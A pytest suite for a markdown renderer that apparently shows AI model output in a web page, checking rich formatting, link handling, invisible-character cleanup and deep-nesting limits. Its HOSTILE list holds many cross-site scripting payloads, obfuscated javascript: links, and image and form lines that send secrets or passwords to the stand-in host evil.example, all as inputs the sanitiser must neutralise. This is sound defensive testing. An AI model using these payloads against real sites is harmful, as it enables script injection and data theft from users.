"""Markdown of models is rendered richly if it is meant as such, and always harmlessly."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from sessions.rendering.code_colours import LANGUAGES
from sessions.rendering.markdown import (
    RICH_LIMIT,
    TOO_LONG,
    render_markdown,
    visible_text,
)

ALLOWED_ATTRIBUTES = {"href", "title", "rel", "class", "tabindex", "start", "dir"}


class Page(HTMLParser):
    """The tags and attributes of a piece of HTML, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    @property
    def links(self) -> list[str]:
        return [value for name, value in self.attributes if name == "href"]


def assert_harmless(html: str) -> Page:
    page = Page(html)
    assert not {
        "script",
        "style",
        "img",
        "svg",
        "iframe",
        "object",
        "form",
        "input",
        "math",
        "link",
        "meta",
    } & set(page.tags)
    assert {name for name, _ in page.attributes} <= ALLOWED_ATTRIBUTES
    assert all(re.match(r"(https?://|mailto:)", link) for link in page.links)
    return page


def test_shows_markdown():
    html = render_markdown("# Plan\n\nSell **bread**, not ~~cake~~.\n\n1. bake\n2. sell\n\n> why")
    assert "<h3>Plan</h3>" in html  # below the page's own headings
    assert "<strong>bread</strong>" in html
    assert "<s>cake</s>" in html
    assert "<li>bake</li>" in html
    assert '<blockquote dir="auto">' in html


def test_aligns_tables_by_class_and_lets_them_scroll():
    html = render_markdown("| item | USD |\n|:-----|----:|\n| oven | 900 |")
    assert '<div class="table-scroll" tabindex="0"><table dir="auto">' in html
    assert '<td class="align-right">900</td>' in html
    assert "style" not in html


def test_labels_and_colours_code():
    html = render_markdown("```python\nreturn 1 < 2\n```")
    assert '<div class="code-language">python</div>' in html
    assert '<span class="k">return</span>' in html
    assert "&lt;" in html


def test_code_of_an_unknown_language_is_plain():
    html = render_markdown('```"><script>alert(1)\nx < y\n```')
    assert_harmless(html)
    assert "&lt;script&gt;" in html
    assert "x &lt; y" in html


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_every_language_has_its_lexer(language):
    assert f'<div class="code-language">{language}</div>' in render_markdown(f"```{language}\nx\n```")


def test_links_say_where_they_lead_and_give_nothing_away():
    page = assert_harmless(
        render_markdown(
            "[docs](https://example.com/a) and https://example.com/b, mail <mailto:a@example.com>"
        )
    )
    assert page.links == ["https://example.com/a", "https://example.com/b", "mailto:a@example.com"]
    assert page.attributes.count(("rel", "noopener noreferrer nofollow")) == 3
    assert "target" not in dict(page.attributes)


def test_file_names_are_no_links():
    assert Page(render_markdown("See README.md, main.rs, a@example.com and 10.0.0.1.")).links == []


def test_images_are_links_with_their_description():
    page = render_markdown(
        "![A *chart*](https://example.com/c.png) [![inner](https://a.example/i.png)](https://b.example)"
    )
    assert Page(page).links == ["https://example.com/c.png", "https://b.example"]
    assert_harmless(page)
    assert "chart" in page
    assert "inner" in page


def test_tasks_have_their_boxes():
    html = render_markdown(
        "- [ ] bake\n- [x] **sell**\n  - [X] rolls\n- [] no\n- [x](https://a.example) link"
    )
    assert html.count('<li class="task">') == 3
    assert '<span class="task-box">☐</span> bake' in html
    assert '<span class="task-box">☑</span> <strong>sell</strong>' in html
    assert '<span class="task-box">☑</span> rolls' in html
    assert "<li>[] no</li>" in html
    assert Page(html).links == ["https://a.example"]
    assert "[ ] no list" in render_markdown("[ ] no list")
    assert_harmless(html)


def test_a_line_break_is_the_only_tag_that_means_anything():
    html = render_markdown("|a|\n|-|\n|w<br>x<br/>y<br />z|\n\n`<br>` <br class=x> <wbr> <b>")
    assert Page(html).tags.count("br") == 3
    assert "<code>&lt;br&gt;</code> &lt;br class=x&gt; &lt;wbr&gt; &lt;b&gt;" in html


def test_what_has_a_side_takes_that_of_its_text():
    html = render_markdown("> a\n\n- b\n\n1. c\n\n|d|\n|-|\n|e|")
    assert html.count('dir="auto"') == 4


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<a href='javascript:alert(1)' onclick=alert(1) id=composer>x</a>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script-->",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example) [w](/admin/logout) [v](sign-out)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/pixel.png?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "<javascript:alert(1)>",
    '[x](https://a.example "t\\" onmouseover=alert(1) x=")',
    '[x](https://a.example/"onmouseover=alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>`",
    "# <script>alert(1)</script>",
    "|<script>|<img src=x>|\n|-|-|\n|<svg onload=x>|[a](javascript:x)|",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a\nhref=javascript:alert(1)>",
    "**[x](javascript:alert(1)**)",
    "[a](<javascript:alert(1)>) [b]( javascript:alert(1) ) [c](\tjavascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<br onclick=alert(1)> <br/onclick=alert(1)> <br\nid=composer>",
    "$<img src=x onerror=alert(1)>$ \\(<script>alert(1)</script>\\) \\[</code><svg onload=alert(1)>\\]",
    "$$\n</pre><script>alert(1)</script>\n$$\n\\begin{align}\n<iframe srcdoc=x>\n\\end{align}",
    "- [x] <input autofocus onfocus=alert(1)>\n- [ ] [x](javascript:alert(1))",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless(text):
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize(
    "text",
    ["**a", "```\nopen", "[a](", "|a|\n|-", "> " * 500 + "deep", "- " * 500, "![[[", "*_*_`", "\\", ""],
)
def test_broken_markdown_is_shown(text):
    assert_harmless(render_markdown(text))


def test_direction_overrides_are_named_and_the_invisible_is_gone():
    assert visible_text("a\u202eb\u2066c") == "a⟦U+202E⟧b⟦U+2066⟧c"
    assert visible_text("pass\u200bword\ufeff \u2060x\u00ad\U000e0041") == "password x"
    assert "\u202e" not in render_markdown("a &#x202e; `\u202e` &#8203;")
    assert "\u200b" not in render_markdown("&#8203;")


def test_joiners_stay_where_scripts_and_emoji_need_them():
    family = "👩\u200d👩\u200d👧"
    persian = "می\u200cخواهم"
    assert visible_text(f"{family} {persian} pay\u200dpal") == f"{family} {persian} paypal"


def test_line_ends_are_one():
    assert visible_text("a\r\nb\rc") == "a\nb\nc"


def test_very_long_text_is_shown_as_it_is():
    html = render_markdown("<b>" + "x" * RICH_LIMIT)
    assert html.startswith(
        f'<p class="plain-note">{TOO_LONG}</p><pre class="plain-text" tabindex="0">&lt;b&gt;xxx'
    )


@pytest.mark.parametrize(
    "text",
    [
        "> " * 10_000 + "kept",
        ">" * 10_000 + "a\nkept",
        "".join("  " * depth + f"- {depth}\n" for depth in range(100)) + "  " * 100 + "- kept",
        "1. " * 10_000 + "kept",
        "> - " * 5_000 + "kept",
        "- a\n  " * 30 + "\n\nkept",
        "> " * 30 + "a\n" + "> " * 30 + "\n" + "> " * 30 + "kept",
    ],
    ids=["quotes", "lazy quotes", "lists", "numbers", "both", "list and text", "two paragraphs"],
)
def test_what_is_nested_too_deeply_is_kept(text):
    html = render_markdown(text + "\n\n\nafter *it*")
    assert_harmless(html)
    assert "kept" in html
    assert html.endswith("<p>after <em>it</em></p>\n")


def test_lists_nest_as_deeply_as_anybody_writes_them():
    html = render_markdown("".join("  " * depth + f"- {depth}\n" for depth in range(8)))
    assert html.count("<ul ") == 8
    assert "code-block" not in html


def test_half_a_surrogate_pair_is_shown_as_what_it_is():
    assert render_markdown("a\ud800b") == "<p>a\ufffdb</p>\n"


def test_a_very_long_paragraph_keeps_its_text():
    html = render_markdown("**short**\n\n" + "**word** " * 2_000)
    assert "<strong>short</strong>" in html
    assert "**word** **word**" in html
